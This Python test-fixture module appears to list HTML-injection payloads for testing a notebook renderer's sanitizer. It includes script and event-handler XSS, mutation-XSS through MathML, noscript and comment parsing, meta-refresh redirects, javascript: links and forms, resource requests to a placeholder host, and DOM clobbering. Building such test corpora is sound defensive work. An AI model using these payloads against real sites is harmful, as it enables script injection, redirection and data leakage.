"""What a notebook may hold so that a page of it runs a script, goes elsewhere, or asks a site for something.

In each text, SITE is an address that nobody may ask, and HACK is a script that nobody may run. What needs a click of the reader has `data-press`."""

from __future__ import annotations

FRAMED = "&lt;script&gt;top.HACK&lt;/script&gt;"
MODULE = "HACK; export default () => ({ initialize() {}, render() {} })"

SCRIPTS = {
    "script": "<script>HACK</script>",
    "script of a site": "<script src=SITE></script>",
    "module": "<script type=module>HACK</script>",
    "module of a site": "<script type=module>import 'SITE'</script>",
    "script as data": "<script src='data:text/javascript,HACK'></script>",
    "import map": '<script type=importmap>{"imports":{"a":"SITE"}}</script><script type=module>import "a"</script>',
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["SITE"]}]}</script>',
    "script with a nonce": "<script nonce=''>HACK</script>",
    "script in SVG": "<svg><script>HACK</script></svg>",
    "script of a site in SVG": "<svg><script href=SITE></script></svg>",
    "script in MathML": "<math><mtext><script>HACK</script></mtext></math>",
    "script behind MathML": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=HACK>--></style>",
    "script in a shadow": "<div><template shadowrootmode=open><script>HACK</script><img src=x onerror=HACK></template></div>",
    "script behind a comment": "<!--><script>HACK</script>-->",
    "script behind noscript": "<noscript><p title='</noscript><img src=x onerror=HACK>'></noscript>",
}
HANDLERS = {
    "image": "<img src=x onerror=HACK>",
    "SVG": "<svg onload=HACK></svg>",
    "SVG in time": "<svg><animate onbegin=HACK attributeName=x dur=1s></svg>",
    "SVG sets": "<svg><set onbegin=HACK attributeName=x to=1></svg>",
    "body": "<body onload=HACK onpageshow=HACK>",
    "details": "<details open ontoggle=HACK>x</details>",
    "focus": "<input autofocus onfocus=HACK>",
    "focus of a text": "<p contenteditable autofocus onfocus=HACK>x</p>",
    "video": "<video><source onerror=HACK src=data:></video>",
    "audio": "<audio src=data: onerror=HACK></audio>",
    "style": "<style onload=HACK></style>",
    "link": "<link rel=stylesheet href=data:text/css, onload=HACK>",
    "animation": "<style>@keyframes a{}</style><p style='animation:a' onanimationstart=HACK>x</p>",
    "click": "<p data-press onclick=HACK>x</p>",
    "object": "<object data=data: onerror=HACK></object>",
    "quote": "\" onload=HACK x=\" ' onload=HACK x='<img/src/onerror=HACK>",
}
PLACES_TO_GO = {
    "refresh": "<meta http-equiv=refresh content='0;url=SITE'>",
    "refresh without blanks": "<META/HTTP-EQUIV=refresh/CONTENT='0;SITE'>",
    "refresh in pieces": "<me<meta x>ta http-equiv=refresh content='0;url=SITE'><meta\nx='>'\nhttp-equiv='refresh'\ncontent='0;url=SITE'>",
    "refresh with entities": "<meta http-equiv='&#114;efresh' content='0;url=SITE'>",
    "refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:HACK'>",
    "refresh to data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>HACK</script>'>",
    "refresh in SVG": "<svg><desc><meta http-equiv=refresh content='0;url=SITE'></desc></svg>",
    "refresh in noscript": "<noscript><meta http-equiv=refresh content='0;url=SITE'></noscript>",
    "refresh in a shadow": "<div><template shadowrootmode=open><meta http-equiv=refresh content='0;url=SITE'></template></div>",
    "refresh in a frame": "<iframe srcdoc=\"&lt;meta http-equiv=refresh content='0;url=SITE'&gt;\"></iframe>",
    "link to a script": "<a data-press href='javascript:HACK'>x</a>",
    "link of SVG": "<svg><a data-press xlink:href='javascript:HACK'><text>x</text></a></svg>",
    "link of SVG that changes": "<svg><a data-press><animate attributeName=href values='javascript:HACK' /><text>x</text></a></svg>",
    "link of MathML": "<math href='javascript:HACK'><mtext data-press>x</mtext></math>",
    "area": "<map name=m><area data-press href='javascript:HACK'></map><img usemap=#m>",
    "form": "<form action=SITE><button data-press>x</button></form>",
    "form to a script": "<form action='javascript:HACK'><button data-press>x</button></form>",
    "button to a site": "<form method=dialog><button data-press formaction=SITE formmethod=get>x</button></form>",
    "input to a site": "<form id=g></form><input form=g type=submit data-press formaction=SITE>",
    "button to a script": "<form><button data-press formaction='javascript:HACK'>x</button></form>",
    "ping": "<a data-press href=#x ping=SITE>x</a>",
    "base": "<base href=SITE/><img src=x>",
}
PAGES_WITHIN = {
    "frame": "<iframe src=SITE></iframe>",
    "frame of data": "<iframe src='data:text/html,<script src=SITE></script>'></iframe>",
    "frame of a script": "<iframe src='javascript:top.HACK'></iframe>",
    "frame of a text": f'<iframe srcdoc="{FRAMED}"></iframe>',
    "frame of a text that connects": "<iframe srcdoc='&lt;link rel=preconnect href=SITE&gt;'></iframe>",
    "frame of a text with a picture": "<iframe srcdoc='&lt;img src=SITE&gt;'></iframe>",
    "object": "<object data=SITE></object>",
    "object of data": "<object data='data:text/html,<script src=SITE></script>'></object>",
    "embed": "<embed src=SITE>",
    "frameset": "<frameset><frame src=SITE></frameset>",
}
REQUESTS = {
    "style sheet": "<link rel=stylesheet href=SITE>",
    "prefetch": "<link rel=prefetch href=SITE>",
    "preload": "<link rel=preload as=image href=SITE>",
    "preload of a module": "<link rel=modulepreload href=SITE>",
    "connection": "<link rel=preconnect href=SITE>",
    "connection without blanks": "<LINK/REL=preconnect/HREF=SITE>",
    "connection in a shadow": "<div><template shadowrootmode=open><link rel=preconnect href=SITE></template></div>",
    "name of a host": "<link rel=dns-prefetch href=SITE>",
    "page before": "<link rel=prerender href=SITE>",
    "icon": "<link rel=icon href=SITE>",
    "manifest": "<link rel=manifest href=SITE>",
    "import": "<style>@import 'SITE';</style>",
    "background": "<style>body{background:url(SITE)}</style>",
    "background of an element": "<p style='background-image:-webkit-image-set(url(SITE) 1x)'>x</p>",
    "font": "<style>@font-face{font-family:f;src:url(SITE)}</style><p style='font-family:f'>x</p>",
    "cursor": "<p style='list-style:url(SITE);display:list-item;border-image:url(SITE) 1'>x</p>",
    "filter": "<p style='filter:url(SITE#f);mask:url(SITE)'>x</p>",
    "picture": "<img src=SITE>",
    "picture of a set": "<img srcset='SITE 1x'>",
    "picture of a choice": "<picture><source srcset=SITE><img></picture>",
    "picture of an input": "<input type=image src=SITE>",
    "picture of SVG": "<svg><image href=SITE /></svg>",
    "picture of a filter": "<svg><filter id=f><feImage href=SITE /></filter><rect width=9 height=9 filter='url(#f)' /></svg>",
    "part of SVG": "<svg><use href='SITE#x' /></svg>",
    "background of the page": "<body background=SITE><table background=SITE><tr><td>x</table>",
    "video": "<video src=SITE poster=SITE></video>",
    "sound": "<audio src=SITE autoplay></audio>",
    "subtitles": "<video crossorigin src=data:video/mp4,><track default src=SITE></video>",
}
OURS = {
    "our data": '<div id="jgrad-page" hidden>{"module": "HACK; export default () => ({initialize(){}, render(){}})"}</div>',
    "our data as a script": f'<script type="application/json" id="jgrad-page">{{"module": "{MODULE}"}}</script>',
    "our place": """<div data-jgrad-trace='{"document": "{}", "cursor": 0, "views": [], "twin": ""}'>x</div>""",
    "our place with keys": "".join(
        f"<div data-jgrad-key='{key}' data-jgrad-trace='{{}}'>x</div>"
        for key in ("", "undefined", "null", "*")
    ),
    "our script": "<script data-jgrad-key=mine>var jgrad={default(){HACK}}</script><div data-jgrad-key=mine>x</div>",
    "our names": "<a id=jgrad></a><a id=jgrad name=default href='javascript:HACK'></a>",
    "our page": "<html data-jgrad-page data-jgrad-key=x>",
}
# After these, nothing else in the page is what it was.
ENDS = {
    "plain text": "<plaintext>",
    "text area": "<textarea>",
    "title": "<title>",
    "open comment": "<!--",
    "open script": "<script>HACK//",
    "open style": "<style>@import 'SITE';",
    "open template": "<template>",
    "open list": "<select><option>",
    "open attribute": "<img src='SITE",
    "open script of a site": "<script src=SITE x='",
    "functions of the document": "".join(
        f"<form name={name}><input name={name} id=call></form><img name={name}>"
        for name in ("querySelectorAll", "getElementById", "createElement", "createElementNS", "head", "body", "currentScript",
                     "documentElement", "addEventListener", "defaultView", "activeElement")
    ),
    "end of the page": "</main></body></html><script>HACK</script><body onload=HACK>",
    "end of the head": "</title></style></head><head><base href=SITE/><script>HACK</script>",
}  # fmt: skip

TOGETHER = {
    f"{kind}: {name}": text
    for kind, texts in (
        ("script", SCRIPTS), ("handler", HANDLERS), ("page within", PAGES_WITHIN), ("request", REQUESTS), ("ours", OURS), ("to go", PLACES_TO_GO),
    )
    for name, text in texts.items()
}  # fmt: skip


def armed(text: str, number: int, site: str) -> str:
    """A text that tells by its number who asked, and who ran."""
    return text.replace("HACK", f"top.hacked=[].concat(top.hacked||[],{number})").replace(
        "SITE", f"{site}/{number}"
    )
